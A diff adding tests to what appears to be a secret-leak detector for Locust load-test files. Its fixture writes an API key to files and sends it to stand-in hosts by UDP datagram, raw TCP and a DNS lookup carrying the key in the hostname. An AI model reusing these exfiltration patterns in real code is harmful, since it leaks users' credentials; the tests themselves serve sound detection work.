@@ -248,3 +248,96 @@ def test_junit_tells_what_ran(project: Project) -> None:
     properties = {one.attrib["name"]: one.attrib["value"] for one in suites[1].findall("properties/property")}
     assert properties["tasks"] == "2" and properties["tasks.ran"] == "1"
     assert int(properties["lines"]) == int(properties["lines.ran"]) + 1
+
+
+#: Each line that lets something out says in which source of which channel; `?` stands for what has a new name each time.
+SCATTERED = """
+import bz2, os, pathlib, pickle, socket, tempfile, zipfile
+from locust import HttpUser, SequentialTaskSet, constant, task
+from tegmen import secret
+
+ELSEWHERE = pathlib.Path(__file__).resolve().parent.parent / "elsewhere"
+
+def value():
+    return secret("SHOP_API_KEY").reveal()
+
+class Steps(SequentialTaskSet):
+    @task
+    def all(self):
+        self.client.get("/orders", headers={"X-Key": secret("SHOP_API_KEY")})
+        with open("one.txt", "w") as file:  #! files one.txt
+            file.write(value())
+        with open("two.pickle", "wb") as file:  #! files two.pickle
+            pickle.dump({"key": value()}, file)
+        for _ in range(2):
+            with open(os.path.join(tempfile.mkdtemp(), "each.txt"), "w") as file:  #! files ?each.txt
+                file.write(value())
+        with zipfile.ZipFile("three.zip", "w", zipfile.ZIP_DEFLATED) as archive:  #! files three.zip
+            archive.writestr("key.txt", "key: " * 50 + value())
+        with open(ELSEWHERE / "four.txt", "w") as file:  #! files ?elsewhere/four.txt
+            file.write(value())
+        with open("five.txt", "w") as file:  #! files ?five.txt
+            file.write(value())
+        os.remove("five.txt")
+        with open("six-" + value(), "w") as file:  #! files six-[SHOP_API_KEY]
+            file.write("x")
+        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as metrics:
+            metrics.sendto(b"key:" + value().encode(), ("203.0.113.77", 9999))  #! other-hosts 203.0.113.77:9999 (a datagram)
+        with socket.create_connection(("vault.example.net", 6000)) as other:  #! other-hosts vault.example.net:6000 (no HTTP)
+            other.sendall(b"\\x00key " + value().encode() + b"\\n")
+        try:
+            socket.getaddrinfo(value()[:24] + ".example.net", 80)
+        except OSError:
+            pass
+
+class Shopper(HttpUser):
+    host = "https://shop.example.com"
+    wait_time = constant(1)
+    tasks = [Steps]
+"""
+
+
+def test_every_file_and_host_is_told_of(project: Project) -> None:
+    """One repaired line must not hide another, and a file that is packed, elsewhere or gone is a file all the same."""
+    (project.path.parent / "elsewhere").mkdir()
+    project.write("locustfile.py", SCATTERED)
+    prove(project, "--stages", "alone").check(1)
+    leaks = [leak for leak in proof(project)["leaks"] if leak["secret"] == "SHOP_API_KEY"]
+    found = {(leak["channel"], leak["source"]): leak.get("spot", {}).get("line") for leak in leaks}
+    for number, line in enumerate(project.read("locustfile.py").splitlines(), 1):
+        channel, _, source = line.partition("#! ")[2].partition(" ")
+        if channel:
+            match = [
+                spot for (kind, shown), spot in found.items() if kind == channel and shown.endswith(source.lstrip("?"))
+            ]
+            assert match == [number], (line, found)
+    assert ("other-hosts", "a question for a name") in found
+
+
+def test_what_a_redirect_carries_away_is_told_with_the_line_that_sent_it(project: Project) -> None:
+    """Not with the line that was the first to send the same token anywhere."""
+    project.write(
+        "locustfile.py",
+        """
+        import os
+        from locust import HttpUser, constant, task
+
+        class Shopper(HttpUser):
+            host = "https://shop.example.com"
+            wait_time = constant(1)
+
+            def on_start(self):
+                answer = self.client.post("/login", json={"password": os.environ["SHOP_PASSWORD"]})
+                self.token = answer.json()["access_token"]
+                self.client.get("/me", headers={"X-Token": self.token})
+
+            @task
+            def upload(self):
+                self.client.post("/upload", data={"token": self.token})  # here
+        """,
+    )
+    prove(project, "--stages", "alone", seconds=5).check(1)
+    lines = project.read("locustfile.py").splitlines()
+    here = next(number for number, line in enumerate(lines, 1) if line.endswith("# here"))
+    leaks = [leak for leak in proof(project)["leaks"] if leak["source"] == "collector.elsewhere.example"]
+    assert [leak["spot"]["line"] for leak in leaks] == [here], leaks
